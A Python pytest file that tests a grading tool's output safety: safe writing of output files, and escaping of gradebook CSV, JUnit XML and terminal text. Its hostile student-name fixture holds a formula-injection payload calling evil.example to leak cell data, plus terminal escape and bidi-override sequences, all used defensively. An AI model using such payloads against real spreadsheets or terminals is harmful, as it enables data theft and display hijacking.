"""Output paths and output contents under attack: -o writes only regular files, keeps modes,
never leaves a temporary file, and every OS error is `error: …` with exit 2; gradebook cells
cannot become formulas, JUnit stays parseable, terminal output cannot carry control sequences."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import stat
from pathlib import Path
from xml.dom import minidom

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from examcheck import outputs
from examcheck.cli import main
from examcheck.outputs import OutputError, write_output
from examcheck.render.escape import csv_cell, markdown_cell, terminal_text, xml_text

ROOT = Path(__file__).resolve().parent.parent
PROBLEMS = str(ROOT / "problems")
FLAWED = str(ROOT / "examples" / "answers" / "flawed.yaml")


def grade(*args):
    return CliRunner().invoke(main, ["grade", "--jobs", "1", "--problems", PROBLEMS, *args])


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".") and ".examcheck-" in p.name]


def assert_usage_error(result, words: str):
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    assert "error:" in result.output and words in result.output, result.output


# ----------------------------------------------------------------------------- what -o may write


@pytest.mark.parametrize("special", ["/dev/null", "/dev/zero"])
def test_a_device_is_refused_and_left_alone(special):
    if not os.path.exists(special):
        pytest.skip(f"no {special}")
    before = os.stat(special)
    assert_usage_error(grade(FLAWED, "--format", "csv", "-o", special), "character device")
    after = os.stat(special)
    assert stat.S_ISCHR(after.st_mode) and after.st_ino == before.st_ino


def test_a_fifo_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    assert_usage_error(grade(FLAWED, "--format", "csv", "-o", str(fifo)), "FIFO")
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


@pytest.mark.parametrize("name, words", [
    ("", "empty"), ("   ", "empty"), (".", "folder"), ("sub", "folder"), ("sub/", "folder"),
    ("missing/out.csv", "does not exist"), ("x" * 300 + ".csv", "longer than 255 bytes"),
    ("dangling.csv", "symlink to a missing file"),
])
def test_bad_output_paths_are_usage_errors_before_grading(tmp_path, monkeypatch, name, words):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "dangling.csv").symlink_to(tmp_path / "nowhere.csv")
    assert_usage_error(grade(FLAWED, "--format", "json", "-o", name), words)
    assert not leftovers(tmp_path)


def test_a_symlink_is_followed_to_its_regular_file(tmp_path):
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert grade(FLAWED, "--format", "csv", "-o", str(link)).exit_code == 0
    assert link.is_symlink() and target.read_text().startswith("student,")


def test_an_existing_file_keeps_its_mode_and_a_new_file_gets_the_umask(tmp_path):
    existing = tmp_path / "grades.csv"
    existing.write_text("old\n")
    existing.chmod(0o640)
    assert grade(FLAWED, "--format", "csv", "-o", str(existing)).exit_code == 0
    assert stat.S_IMODE(existing.stat().st_mode) == 0o640
    old = os.umask(0o027)
    try:
        fresh = tmp_path / "fresh.csv"
        assert grade(FLAWED, "--format", "csv", "-o", str(fresh)).exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o640
    assert not leftovers(tmp_path)


@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "no space left"), (errno.EDQUOT, "quota"),
                                         (errno.EIO, "error")])
def test_a_failing_disk_is_an_error_and_keeps_the_old_file(tmp_path, monkeypatch, code, words):
    target = tmp_path / "grades.csv"
    target.write_text("old\n")

    def full(_fd):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(outputs.os, "fsync", full)
    assert_usage_error(grade(FLAWED, "--format", "csv", "-o", str(target)), words)
    assert target.read_text() == "old\n"
    assert not leftovers(tmp_path)


@pytest.mark.parametrize("code", [errno.EROFS, errno.EACCES])
def test_a_read_only_place_is_an_error(tmp_path, monkeypatch, code):
    real_open = os.open

    def refuse(path, flags, *args, **kwargs):
        if flags & os.O_CREAT:  # creating a file fails; reading still works
            raise OSError(code, os.strerror(code))
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(outputs.os, "open", refuse)
    assert_usage_error(grade(FLAWED, "--format", "csv", "-o", str(tmp_path / "g.csv")), "cannot create a file")


@pytest.mark.parametrize("interrupt", [KeyboardInterrupt, MemoryError, RuntimeError])
def test_the_temporary_file_is_removed_on_every_way_out(tmp_path, monkeypatch, interrupt):
    target = tmp_path / "grades.csv"
    target.write_text("old\n")

    def stop(_fd):
        raise interrupt()

    monkeypatch.setattr(outputs.os, "fsync", stop)
    with pytest.raises(interrupt):
        write_output(target, "new\n")
    assert target.read_text() == "old\n"
    assert not leftovers(tmp_path)


def test_when_the_output_fails_the_other_outputs_still_come(tmp_path, monkeypatch):
    broken = tmp_path / "broken.yaml"
    broken.write_text("answers: [unclosed\n")
    monkeypatch.setattr(outputs.os, "fsync", lambda _fd: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    result = grade(FLAWED, str(broken), "--format", "json", "-o", str(tmp_path / "out.json"))
    assert_usage_error(result, "no space left")
    assert "broken.yaml" in result.output  # the skipped file is still reported


OUTPUT_NAMES = st.lists(st.sampled_from(["a", "sub", "..", ".", "", "x" * 120, "é", "dev", "fifo", "link", "dangling",
                                         "file", " ", "-", "\t", ":", "*"]), min_size=0, max_size=4).map("/".join)


@given(OUTPUT_NAMES, st.booleans())
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_output_path_fuzz(tmp_path, name, absolute):
    """Any path: written as a regular file, or an OutputError; nothing else changes, nothing is left over."""
    folder = tmp_path / "fuzz"
    if not folder.exists():
        folder.mkdir()
        (folder / "sub").mkdir()
        (folder / "file").write_text("keep")
        os.mkfifo(folder / "fifo")
        (folder / "link").symlink_to(folder / "file")
        (folder / "dangling").symlink_to(folder / "gone")
        if os.path.exists("/dev/null"):
            (folder / "dev").symlink_to("/dev/null")
    path = str(folder / name) if absolute else name
    cwd = os.getcwd()
    os.chdir(folder)
    try:
        try:
            written = write_output(path, "content\n")
        except OutputError as exc:
            assert str(exc)
        else:
            assert written.is_file() and written.read_text() == "content\n"
            written.write_text("keep") if written.name == "file" else None
    finally:
        os.chdir(cwd)
    assert stat.S_ISFIFO(os.stat(folder / "fifo").st_mode)
    assert (folder / "sub").is_dir() and (folder / "link").is_symlink()
    assert not any(".examcheck-" in p.name and p.name.endswith(".tmp") for p in folder.rglob("*"))
    if os.path.exists("/dev/null"):
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


# ----------------------------------------------------------------------------- what goes into the outputs

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[2J\x1b]0;pwned\x07\r\x0b\x00x'


@pytest.fixture
def hostile_sheet(tmp_path):
    path = tmp_path / "hostile.yaml"
    escaped = HOSTILE_NAME.replace("\\", "\\\\").replace('"', '\\"').replace("\x1b", "\\e").replace("\x07", "\\a") \
        .replace("\r", "\\r").replace("\x0b", "\\v").replace("\x00", "\\0")
    path.write_text(f'student: "{escaped}"\nexam: seed000-quiz\nanswers:\n'
                    '  q1: {i: "\\e[31m[link=http://e]x[/link]\\u202e", ii: "-1+2"}\n'
                    '  q2: {i: "@SUM(1)", ii: "+1"}\n')
    return str(path)


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle", "brightspace"])
def test_gradebook_cells_cannot_be_formulas(hostile_sheet, fmt):
    result = grade(hostile_sheet, FLAWED, "--format", fmt, "--points-row")
    rows = list(csv.reader(io.StringIO(result.stdout)))
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus
            assert "\x1b" not in cell and "\x00" not in cell
    assert any(cell.startswith(("'=HYPERLINK", "#=HYPERLINK")) for row in rows for cell in row)


def test_scores_stay_numbers():
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3 and csv_cell("-1.5") == "-1.5" and csv_cell("2") == "2"
    assert csv_cell("-1+2") == "'-1+2" and csv_cell(" =1") == "' =1" and csv_cell("\t=1") == "'\t=1"


@given(st.text(alphabet=st.sampled_from(list(" \n\r\t\u2028=+-@|a1.")), max_size=8))
def test_no_cell_starts_a_formula_behind_blanks(text):
    cell = csv_cell(text)
    assert cell.startswith("'") or not cell.lstrip(" \n\r\t\u2028\u2029").startswith(("=", "+", "-", "@", "|")) \
        or re.fullmatch(r"[-+]?(\d+(\.\d*)?|\.\d+)", cell)


def test_junit_is_parseable_xml(hostile_sheet):
    result = grade(hostile_sheet, "--format", "junit")
    document = minidom.parseString(result.stdout)
    suite = document.getElementsByTagName("testsuite")[0]
    assert suite.getAttribute("name").startswith('seed000-quiz.=HYPERLINK("http://evil.example/?"&A1')
    assert xml_text("a\x00\x1b\ufffe\ud800b\t\n") == "ab\t\n"


@pytest.mark.parametrize("fmt", ["table", "markdown", "github", "csv", "canvas", "moodle", "brightspace", "html", "junit"])
def test_terminal_output_carries_no_control_sequences(hostile_sheet, fmt):
    result = grade(hostile_sheet, "--format", fmt, "--color", "never")
    text = result.stdout
    for bad in ("\x1b", "\x07", "\x00", "\x0b", "\u202e"):
        assert bad not in text, (fmt, bad)
    assert "\\x1b" in text


def test_table_output_does_not_interpret_console_markup(hostile_sheet):
    result = grade(hostile_sheet, "--color", "never")
    assert "[link=http://e]x[/link]" in result.stdout


def test_errors_on_stderr_are_escaped_too(tmp_path):
    name = tmp_path / "evil\x1b[2J.yaml"
    name.write_text("answers: [unclosed\n")
    result = grade(str(name))
    assert result.exit_code == 2 and "\x1b" not in result.output and "evil\\x1b[2J.yaml" in result.output


def test_escape_helpers():
    assert terminal_text("a\x1b[31mb\x9bc\r\n") == "a\\x1b[31mb\\x9bc\\x0d\n"
    assert terminal_text("\u202eevil") == "\\u202eevil"
    assert markdown_cell("a|b\nc<script>") == "a\\|b c&lt;script&gt;"


def test_sigterm_while_writing_removes_the_temporary_file(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    target = tmp_path / "grades.csv"
    target.write_text("old\n")
    script = ("import os, time\nfrom examcheck import outputs\n"
              "outputs.os.fsync = lambda fd: time.sleep(60)\n"
              f"outputs.write_output({str(target)!r}, 'new\\n')\n")
    child = subprocess.Popen([sys.executable, "-c", script])
    try:
        deadline = time.monotonic() + 60
        while not leftovers(tmp_path) and time.monotonic() < deadline and child.poll() is None:
            time.sleep(0.02)
        assert leftovers(tmp_path), "the temporary file never appeared"
        child.send_signal(signal.SIGTERM)
        assert child.wait(timeout=60) == 128 + signal.SIGTERM
    finally:
        child.kill()
    assert target.read_text() == "old\n"
    assert not leftovers(tmp_path)


def test_output_never_replaces_an_input_file(tmp_path):
    answers = tmp_path / "alice.yaml"
    answers.write_text(Path(FLAWED).read_text())
    link = tmp_path / "out.csv"
    link.symlink_to(answers)
    for target in (answers, link):
        assert_usage_error(grade(str(answers), "--format", "csv", "-o", str(target)), "one of the input files")
    assert answers.read_text() == Path(FLAWED).read_text()
